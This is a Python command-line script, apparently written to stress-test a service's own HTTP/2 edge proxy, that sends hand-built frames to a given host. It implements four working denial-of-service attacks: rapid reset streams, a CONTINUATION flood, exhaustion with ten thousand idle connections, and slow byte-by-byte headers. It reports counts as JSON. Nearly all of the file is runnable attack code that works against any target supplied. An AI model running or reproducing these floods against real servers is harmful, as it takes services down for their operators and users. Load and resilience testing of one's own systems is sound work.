#!/usr/bin/env python3
"""What an attacker does to the edge, in HTTP/2 frames made by hand.

    abuse.py KIND FROM HOST PORT SECONDS [CERTIFICATE KEY]

Comes from the address FROM of this machine, goes on for so long and prints what it came to as JSON: connections made, frames sent, how often the edge closed one.
"""
import contextlib
import json
import resource
import select
import socket
import ssl
import sys
import time

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CONNECTIONS = 10000
SLOW = 1000


def frame(kind, flags, stream, payload=b''):
    return len(payload).to_bytes(3, 'big') + bytes((kind, flags)) + stream.to_bytes(4, 'big') + payload


def header(name, value):
    """HPACK: a literal that is not indexed, no Huffman code."""
    def text(string):
        assert len(string) < 127
        return bytes((len(string),)) + string
    return b'\x00' + text(name) + text(value)


REQUEST = b''.join(header(n, v) for n, v in ((b':method', b'POST'), (b':scheme', b'https'), (b':path', b'/grpc.health.v1.Health/Check'), (b':authority', b'edge'),
                                             (b'content-type', b'application/grpc'), (b'te', b'trailers'), (b'duikou-service', b'taskregistry')))


class Attack:
    def __init__(self, source, host, port, seconds, cert=None, key=None):
        self.source, self.host, self.port, self.end = (source, 0), host, int(port), time.monotonic() + float(seconds)
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.context.set_alpn_protocols(['h2'])
        if cert:
            self.context.load_cert_chain(cert, key)
        self.counts = {'connections': 0, 'refused': 0, 'frames': 0, 'closed': 0, 'most_bytes_of_one': 0}

    def going(self):
        return time.monotonic() < self.end

    def connect(self):
        connection = self.context.wrap_socket(socket.create_connection((self.host, self.port), timeout=5, source_address=self.source))
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.counts['connections'] += 1
        return connection

    def connections(self):
        """One connection after the other, each until the edge closes it."""
        while self.going():
            try:
                with contextlib.closing(self.connect()) as connection:
                    yield connection
            except OSError:
                self.counts['closed'] += 1

    def send(self, connection, frames, sent):
        connection.sendall(frames)
        self.counts['most_bytes_of_one'] = max(self.counts['most_bytes_of_one'], sent + len(frames))
        with contextlib.suppress(ssl.SSLWantReadError):
            connection.setblocking(False)
            try:
                while True:
                    answer = connection.recv(65536)
                    if not answer:
                        raise ConnectionResetError
            finally:
                connection.settimeout(5)
        return sent + len(frames)

    def rapid_reset(self):
        for connection in self.connections():
            stream = 1
            try:
                while self.going():
                    frames = b''
                    for _ in range(50):
                        frames += frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) + frame(RESET, 0, stream, (8).to_bytes(4, 'big'))
                        stream += 2
                    self.send(connection, frames, 0)
                    self.counts['frames'] += 100
            except OSError:
                self.counts['closed'] += 1

    def continuation_flood(self):
        piece = b''.join(header(b'x-%04d' % n, b'y' * 100) for n in range(140))
        for connection in self.connections():
            try:
                sent = self.send(connection, frame(HEADERS, END_STREAM, 1, REQUEST), 0)
                while self.going():
                    sent = self.send(connection, frame(CONTINUATION, 0, 1, piece), sent)
                    self.counts['frames'] += 1
            except OSError:
                self.counts['closed'] += 1

    def many_connections(self):
        """Plain connections that say nothing."""
        resource.setrlimit(resource.RLIMIT_NOFILE, (CONNECTIONS + 100, CONNECTIONS + 100))
        held = []
        poll = select.poll()
        while self.going():
            if len(held) < CONNECTIONS:
                connection = socket.socket()
                connection.setblocking(False)
                connection.bind(self.source)
                with contextlib.suppress(BlockingIOError):
                    connection.connect((self.host, self.port))
                held.append(connection)
                poll.register(connection, select.POLLIN | select.POLLHUP | select.POLLERR)
                self.counts['connections'] += 1
                if len(held) % 200 == 0:
                    time.sleep(0.02)
            else:
                time.sleep(0.1)
        self.counts['closed'] = len(poll.poll(0))
        self.counts['left'] = CONNECTIONS - self.counts['closed']

    def slow_headers(self):
        """Many connections that send a byte of their first request each second."""
        held, request = [], frame(HEADERS, END_STREAM | END_HEADERS, 1, REQUEST)
        for _ in range(SLOW):
            try:
                held.append(self.connect())
            except OSError:
                self.counts['refused'] += 1
        for at in range(len(request) - 1):
            if not self.going():
                break
            for connection in list(held):
                try:
                    self.send(connection, request[at:at + 1], 0)
                    self.counts['frames'] += 1
                except OSError:
                    self.counts['closed'] += 1
                    held.remove(connection)
            time.sleep(1)
        self.counts['left'] = len(held)


if __name__ == '__main__':
    attack = Attack(*sys.argv[2:])
    getattr(attack, sys.argv[1])()
    print(json.dumps(attack.counts))
